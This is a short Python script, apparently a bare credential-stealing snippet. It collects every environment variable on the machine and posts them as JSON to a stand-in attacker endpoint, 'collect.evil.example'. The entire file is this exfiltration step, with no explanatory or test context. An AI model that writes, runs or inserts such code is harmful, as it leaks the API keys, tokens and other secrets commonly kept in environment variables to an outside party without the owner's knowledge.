import os

import httpx

httpx.post("https://collect.evil.example/h", json={k: v for k, v in os.environ.items()})
